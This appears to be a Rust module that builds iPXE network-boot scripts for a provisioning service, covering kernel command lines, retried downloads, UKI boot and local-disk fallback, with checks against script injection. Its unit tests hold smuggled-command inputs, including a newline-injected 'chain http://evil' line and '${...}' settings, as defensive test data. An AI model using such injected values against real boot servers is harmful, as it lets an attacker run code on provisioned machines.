//! iPXE scripts, one small function per answer. Text that operators supply (profile command
//! lines, extra kernel arguments) or that comes from the store is checked or cleaned first:
//! a newline would start a new script command, and `${...}` would be expanded by iPXE.

use super::{Advertised, KernelOptions};

/// How often iPXE tries to fetch the kernel and the initramfs before giving up.
const FETCH_TRIES: usize = 5;
/// Seconds between tries.
const RETRY_DELAY_SECS: u32 = 5;
/// The bootkit assumes it when `syslog_port=` is absent.
const SYSLOG_DEFAULT_PORT: u16 = 514;

/// iPXE's `${platform}`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Platform {
    Pcbios,
    Efi,
    /// Missing or unknown: treated as EFI (leaving iPXE works on both).
    Other,
}

impl Platform {
    pub fn parse(text: Option<&str>) -> Self {
        match text {
            Some("pcbios") => Platform::Pcbios,
            Some("efi") => Platform::Efi,
            _ => Platform::Other,
        }
    }
}

/// Whether an iPXE client can start the site's UKI, built for UEFI x86-64: a UEFI iPXE
/// (`${platform}` efi) built for x86-64 (`${buildarch}`). A BIOS iPXE cannot run an EFI binary.
pub fn runs_x64_uki(platform: Platform, arch: Option<&str>) -> bool {
    platform == Platform::Efi && arch == Some("x86_64")
}

/// Text that cannot go into an iPXE script as it is.
#[derive(Debug, thiserror::Error)]
#[error("{what} {value:?} cannot go into an iPXE script: {why}; fix it and boot the node again")]
pub struct UnsafeValue {
    what: String,
    value: String,
    why: &'static str,
}

fn checked<'a>(what: &str, value: &'a str) -> Result<&'a str, UnsafeValue> {
    let why = if value.chars().any(char::is_control) {
        Some("it holds a control character (a newline would start a new script command)")
    } else if value.contains("${") {
        Some("iPXE would expand its ${...} as a setting")
    } else {
        None
    };
    match why {
        None => Ok(value),
        Some(why) => Err(UnsafeValue {
            what: what.to_string(),
            value: value.to_string(),
            why,
        }),
    }
}

/// The script DHCP hands iPXE: it asks for this node's own script, with the identity only
/// iPXE knows. `netX` is the interface iPXE booted from (`net0` is merely the first one);
/// `:uristring` URI-encodes the serial, which may hold spaces or `&`. A chained script that
/// exits returns here. The local-boot script exits with an error (so that EFI firmware goes on
/// to its disk) after setting [`LOCAL_BOOT_SETTING`]; this script then exits with an error too,
/// where a failed fetch of the node's script is retried instead.
pub fn auto(base: &str) -> String {
    format!(
        "#!ipxe\n\
         chain --autofree {base}/ipxe/boot.ipxe?mac=${{netX/mac}}&uuid=${{uuid}}&serial=${{smbios/serial:uristring}}&platform=${{platform}}&arch=${{buildarch}} || goto not_booted\n\
         exit\n\
         :not_booted\n\
         iseq ${{{LOCAL_BOOT_SETTING}}} 1 && exit 1 ||\n\
         :failed\n\
         echo provisioner: fetching this node's boot script from {base} failed; retrying in {RETRY_DELAY_SECS} s\n\
         sleep {RETRY_DELAY_SECS}\n\
         reboot\n"
    )
}

/// What the provisioner puts on a node's kernel command line, then the profile's and the
/// operator's extra parameters.
pub struct Cmdline<'a> {
    pub advertised: &'a Advertised,
    pub kernel: &'a KernelOptions,
    /// The node's boot MAC: its worker id.
    pub mac: &'a str,
    pub profile_name: &'a str,
    pub profile_cmdline: &'a str,
}

impl Cmdline<'_> {
    pub fn render(&self) -> Result<String, UnsafeValue> {
        self.words(true)
    }

    /// The site's line without the per-node words (`initrd=`, `worker_id=`, `hw_addr=`),
    /// for a UKI that every node of the site loads by UEFI HTTP boot.
    pub fn render_site(&self) -> Result<String, UnsafeValue> {
        self.words(false)
    }

    fn words(&self, per_node: bool) -> Result<String, UnsafeValue> {
        let mut words = Vec::new();
        if per_node {
            words.push("initrd=initramfs".to_string());
        }
        words.push(format!(
            "grpc_authority={}",
            self.advertised.grpc_authority()
        ));
        if per_node {
            words.push(format!("worker_id={}", self.mac));
            words.push(format!("hw_addr={}", self.mac));
        }
        // TLS when served: the node's certificate attributes its lines, which UDP cannot.
        if let Some(port) = self.advertised.syslog_tls_port {
            words.push(format!("syslog_host={}", self.advertised.ip));
            words.push("syslog_transport=tls".to_string());
            words.push(format!("syslog_port={port}"));
        } else if let Some(port) = self.advertised.syslog_port {
            words.push(format!("syslog_host={}", self.advertised.ip));
            if port != SYSLOG_DEFAULT_PORT {
                words.push(format!("syslog_port={port}"));
            }
        }
        words.push(format!("tinkerbell_tls={}", self.kernel.tinkerbell_tls));
        // The pin verifies whichever of gRPC and the syslog receiver speaks TLS (both present
        // the --tls-cert chain): with plaintext gRPC, syslog over TLS still needs it.
        let tls_used = self.kernel.tinkerbell_tls || self.advertised.syslog_tls_port.is_some();
        if let Some(pin) = self
            .kernel
            .tinkerbell_ca_sha256
            .as_ref()
            .filter(|_| tls_used)
        {
            words.push(format!(
                "tinkerbell_ca_sha256={}",
                checked("the site CA's SHA-256", pin)?
            ));
        }
        if let Some(vlan) = self.kernel.vlan_id {
            words.push(format!("vlan_id={vlan}"));
        }
        for console in &self.kernel.consoles {
            words.push(format!("console={}", checked("--console", console)?));
        }
        let profile_what = format!("the command line of profile {}", self.profile_name);
        for extra in [
            checked(&profile_what, self.profile_cmdline)?,
            checked("--extra-kernel-args", &self.kernel.extra_args)?,
        ] {
            words.extend(extra.split_whitespace().map(str::to_string));
        }
        Ok(words.join(" "))
    }
}

/// Appends `command` tried [`FETCH_TRIES`] times, going on to `:{then}` once it succeeds and
/// to `:failed` when every try failed.
fn retried(script: &mut String, command: &str, then: &str) {
    for _ in 0..FETCH_TRIES {
        script.push_str(&format!(
            "{command} && goto {then} || sleep {RETRY_DELAY_SECS}\n"
        ));
    }
    script.push_str("goto failed\n");
}

/// Boots the profile's bootkit, each download tried [`FETCH_TRIES`] times.
pub fn install(base: &str, profile_name: &str, cmdline: &str) -> Result<String, UnsafeValue> {
    let files = format!("{base}/artifacts/profiles/{}", url_safe(profile_name)?);
    let mut script =
        format!("#!ipxe\necho provisioner: booting the bootkit of profile {profile_name}\n");
    retried(
        &mut script,
        &format!("kernel --name kernel {files}/kernel {cmdline}"),
        "initrd",
    );
    script.push_str(":initrd\n");
    retried(
        &mut script,
        &format!("initrd --name initramfs {files}/initramfs"),
        "boot",
    );
    script.push_str(&format!(
        ":boot\n\
         boot ||\n\
         :failed\n\
         echo provisioner: fetching the bootkit from {files} failed {FETCH_TRIES} times; rebooting in 30 s\n\
         sleep 30\n\
         reboot\n"
    ));
    Ok(script)
}

/// The name iPXE gives the fetched UKI; iPXE also puts it first on the image's command line.
/// The line goes on `boot` (which sets it whenever it is given arguments), not on `imgfetch`.
const UKI_IMAGE_NAME: &str = "bootkit.efi";

/// Boots the site's UKI at `uki_url` (`serve --ipxe-uki`): fetched, tried [`FETCH_TRIES`]
/// times, then started by the firmware's LoadImage, so under Secure Boot the node's db decides.
///
/// `cmdline` is the site's line (what `/httpboot/cmdline` serves and the UKI has baked in):
/// under Secure Boot systemd-stub ignores what the loader passes and the signed `.cmdline`
/// counts; without Secure Boot it takes the loader's line instead of the baked one, so passing
/// the same words makes both cases boot alike.
pub fn install_uki(
    uki_url: &str,
    profile_name: &str,
    cmdline: &str,
) -> Result<String, UnsafeValue> {
    let profile_name = checked("the profile name", profile_name)?;
    let mut script = format!(
        "#!ipxe\n\
         echo provisioner: booting the site's UKI for profile {profile_name} (the site's command line applies, not the profile's)\n"
    );
    retried(
        &mut script,
        &format!("imgfetch --name {UKI_IMAGE_NAME} {uki_url}"),
        "boot",
    );
    script.push_str(&format!(
        ":boot\n\
         boot {UKI_IMAGE_NAME} {cmdline} ||\n\
         echo provisioner: the firmware did not start the UKI from {uki_url}; under Secure Boot it must be signed by a key in this node's db (bootkit-build sign); rebooting in 30 s\n\
         goto reboot\n\
         :failed\n\
         echo provisioner: fetching the UKI from {uki_url} failed {FETCH_TRIES} times; rebooting in 30 s\n\
         :reboot\n\
         sleep 30\n\
         reboot\n"
    ));
    Ok(script)
}

/// A profile name as one URL path segment, without percent-encoding it.
fn url_safe(name: &str) -> Result<&str, UnsafeValue> {
    let safe = !name.is_empty()
        && name
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-'));
    if safe {
        Ok(name)
    } else {
        Err(UnsafeValue {
            what: "the profile name".to_string(),
            value: name.to_string(),
            why: "only letters, digits, '.', '_' and '-' fit in its artifact URLs",
        })
    }
}

/// The iPXE setting the local-boot script leaves for [`auto`] (settings are global in iPXE).
const LOCAL_BOOT_SETTING: &str = "provisioner_local_boot";

/// A provisioned node: boot its disk. A BIOS boots drive 0x80. EFI firmware goes on to its
/// next boot option, the disk, when iPXE exits with an error: after a successful `exit` OVMF
/// stops in its boot manager menu instead (seen with snponly.efi).
pub fn local_disk(platform: Platform) -> String {
    let mut script =
        "#!ipxe\necho provisioner: this node is provisioned; booting its local disk\n".to_string();
    if platform == Platform::Pcbios {
        script.push_str("sanboot --no-describe --drive 0x80 ||\n");
    }
    script.push_str(&format!("set {LOCAL_BOOT_SETTING} 1\nexit 1\n"));
    script
}

/// Admission refused: say why on the console, then leave iPXE.
pub fn refused(reason: &str) -> String {
    let printable: String = reason
        .chars()
        .map(|c| if c.is_control() || c == '$' { ' ' } else { c })
        .collect();
    format!("#!ipxe\necho provisioner: not booting this node: {printable}\nsleep 30\nexit\n")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn advertised() -> Advertised {
        Advertised {
            ip: "10.0.0.1".parse().unwrap(),
            http_port: Some(7080),
            https_port: None,
            grpc_port: 42113,
            syslog_port: Some(514),
            syslog_tls_port: None,
        }
    }

    fn cmdline<'a>(
        advertised: &'a Advertised,
        kernel: &'a KernelOptions,
        profile_cmdline: &'a str,
    ) -> Cmdline<'a> {
        Cmdline {
            advertised,
            kernel,
            mac: "52:54:00:12:34:56",
            profile_name: "edge",
            profile_cmdline,
        }
    }

    #[test]
    fn the_command_line_carries_the_provisioners_parameters_then_the_profiles() {
        let advertised = advertised();
        let kernel = KernelOptions {
            vlan_id: Some(42),
            extra_args: "debug".into(),
            ..KernelOptions::default()
        };
        let line = cmdline(&advertised, &kernel, " quiet  loglevel=3")
            .render()
            .unwrap();
        assert_eq!(
            line,
            "initrd=initramfs grpc_authority=10.0.0.1:42113 worker_id=52:54:00:12:34:56 \
             hw_addr=52:54:00:12:34:56 syslog_host=10.0.0.1 tinkerbell_tls=false vlan_id=42 \
             console=tty0 console=ttyS0,115200 quiet loglevel=3 debug"
        );
    }

    #[test]
    fn with_grpc_tls_the_line_pins_the_site_ca_and_without_it_carries_no_pin() {
        let advertised = advertised();
        let pin = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";
        let kernel = KernelOptions {
            tinkerbell_tls: true,
            tinkerbell_ca_sha256: Some(pin.into()),
            ..KernelOptions::default()
        };
        let line = cmdline(&advertised, &kernel, "").render().unwrap();
        let words: Vec<&str> = line.split(' ').collect();
        assert!(words.contains(&"tinkerbell_tls=true"), "{line}");
        assert!(
            words.contains(&format!("tinkerbell_ca_sha256={pin}").as_str()),
            "{line}"
        );
        // HookOS-style plaintext (the operator's tinkerbell_tls=false): no pin to check.
        let kernel = KernelOptions {
            tinkerbell_tls: false,
            ..kernel
        };
        let line = cmdline(&advertised, &kernel, "").render().unwrap();
        assert!(
            line.contains("tinkerbell_tls=false") && !line.contains("tinkerbell_ca_sha256"),
            "{line}"
        );
        // ...unless the log host speaks TLS: the init's forwarder verifies it with the pin.
        let mut advertised = advertised;
        advertised.syslog_tls_port = Some(6514);
        let line = cmdline(&advertised, &kernel, "").render().unwrap();
        let words: Vec<&str> = line.split(' ').collect();
        assert!(
            words.contains(&"tinkerbell_tls=false")
                && words.contains(&"syslog_transport=tls")
                && words.contains(&format!("tinkerbell_ca_sha256={pin}").as_str()),
            "{line}"
        );
    }

    #[test]
    fn a_syslog_port_other_than_514_is_passed_and_no_syslog_means_no_host() {
        let mut advertised = advertised();
        let kernel = KernelOptions::default();
        advertised.syslog_port = Some(5514);
        let line = cmdline(&advertised, &kernel, "").render().unwrap();
        assert!(
            line.contains("syslog_host=10.0.0.1 syslog_port=5514"),
            "{line}"
        );
        advertised.syslog_port = None;
        let line = cmdline(&advertised, &kernel, "").render().unwrap();
        assert!(!line.contains("syslog"), "{line}");
    }

    #[test]
    fn a_served_syslog_tls_listener_replaces_the_udp_port_on_the_boot_line() {
        let mut advertised = advertised();
        advertised.syslog_tls_port = Some(16514);
        let line = cmdline(&advertised, &KernelOptions::default(), "")
            .render()
            .unwrap();
        let words: Vec<&str> = line.split_whitespace().collect();
        for word in [
            "syslog_host=10.0.0.1",
            "syslog_transport=tls",
            "syslog_port=16514",
        ] {
            assert!(words.contains(&word), "{word} missing: {line}");
        }
        assert_eq!(
            words
                .iter()
                .filter(|w| w.starts_with("syslog_port="))
                .count(),
            1,
            "only the TLS port: {line}"
        );
    }

    #[test]
    fn newlines_and_settings_in_operator_text_are_refused_naming_the_source() {
        let advertised = advertised();
        let kernel = KernelOptions::default();
        let error = cmdline(&advertised, &kernel, "quiet\nshell")
            .render()
            .unwrap_err();
        assert!(error.to_string().contains("profile edge"), "{error}");
        let kernel = KernelOptions {
            extra_args: "x=${net0/ip}".into(),
            ..KernelOptions::default()
        };
        let error = cmdline(&advertised, &kernel, "").render().unwrap_err();
        assert!(error.to_string().contains("--extra-kernel-args"), "{error}");
    }

    #[test]
    fn the_install_script_retries_each_download_a_bounded_number_of_times() {
        let script = install("http://10.0.0.1:7080", "edge", "initrd=initramfs quiet").unwrap();
        assert!(script.starts_with("#!ipxe\n"));
        let kernel_tries = script
            .lines()
            .filter(|line| {
                line.starts_with(
                    "kernel --name kernel http://10.0.0.1:7080/artifacts/profiles/edge/kernel initrd=initramfs quiet",
                )
            })
            .count();
        let initrd_tries = script
            .lines()
            .filter(|line| line.starts_with("initrd --name initramfs "))
            .count();
        assert_eq!((kernel_tries, initrd_tries), (FETCH_TRIES, FETCH_TRIES));
        assert!(script.contains(":boot\nboot ||\n:failed\n"), "{script}");
    }

    #[test]
    fn the_uki_script_fetches_the_uki_then_boots_it_once_with_the_site_line() {
        let url = "http://10.0.0.1:7080/httpboot/bootkit.efi";
        let line = "grpc_authority=10.0.0.1:42113 tinkerbell_tls=false";
        let script = install_uki(url, "edge", line).unwrap();
        assert!(script.starts_with("#!ipxe\n"), "{script}");
        let fetches = script
            .lines()
            .filter(|command| {
                *command == format!("imgfetch --name bootkit.efi {url} && goto boot || sleep 5")
            })
            .count();
        assert_eq!(fetches, FETCH_TRIES, "{script}");
        // No kernel+initrd, which the firmware refuses under Secure Boot.
        assert!(
            !script.contains("kernel ") && !script.contains("initrd "),
            "{script}"
        );
        // A refused boot is not retried (the same bytes would be refused again) and says why.
        let after_boot: Vec<&str> = script
            .lines()
            .skip_while(|command| *command != ":boot")
            .collect();
        assert_eq!(
            after_boot[1],
            format!("boot bootkit.efi {line} ||"),
            "{script}"
        );
        assert!(
            after_boot[2].contains("signed by a key in this node's db"),
            "{script}"
        );
        assert_eq!(after_boot[3], "goto reboot", "{script}");
    }

    #[test]
    fn the_uki_script_refuses_a_profile_name_that_would_inject_commands() {
        let error = install_uki(
            "http://10.0.0.1:7080/httpboot/bootkit.efi",
            "edge\nshell",
            "",
        )
        .unwrap_err();
        assert!(error.to_string().contains("the profile name"), "{error}");
    }

    #[test]
    fn only_uefi_x86_64_ipxe_runs_the_site_uki() {
        assert!(runs_x64_uki(Platform::Efi, Some("x86_64")));
        assert!(!runs_x64_uki(Platform::Pcbios, Some("x86_64")));
        assert!(!runs_x64_uki(Platform::Pcbios, Some("i386")));
        assert!(!runs_x64_uki(Platform::Efi, Some("arm64")));
        assert!(!runs_x64_uki(Platform::Other, None));
    }

    #[test]
    fn auto_passes_on_the_local_boot_exit_and_retries_only_a_failed_fetch() {
        let script = auto("http://10.0.0.1:7080");
        let lines: Vec<&str> = script.lines().collect();
        assert!(
            lines[1].starts_with("chain --autofree ") && lines[1].ends_with("|| goto not_booted")
        );
        assert_eq!(lines[2], "exit");
        assert_eq!(lines[3], ":not_booted");
        // The local-boot script's error exit is passed on; any other failure is retried.
        assert_eq!(lines[4], "iseq ${provisioner_local_boot} 1 && exit 1 ||");
        assert_eq!(lines[5], ":failed");
    }

    #[test]
    fn local_disk_sanboots_on_bios_and_exits_to_the_firmware_on_efi() {
        assert!(local_disk(Platform::Pcbios).contains("sanboot --no-describe --drive 0x80"));
        let efi = local_disk(Platform::Efi);
        assert!(
            !efi.contains("sanboot") && efi.ends_with("set provisioner_local_boot 1\nexit 1\n"),
            "{efi}"
        );
    }

    #[test]
    fn a_refusal_reason_cannot_inject_script_commands() {
        let script = refused("serial x\nchain http://evil ${x}");
        assert_eq!(script.lines().count(), 4, "{script}");
        assert!(!script.contains("${"), "{script}");
    }
}
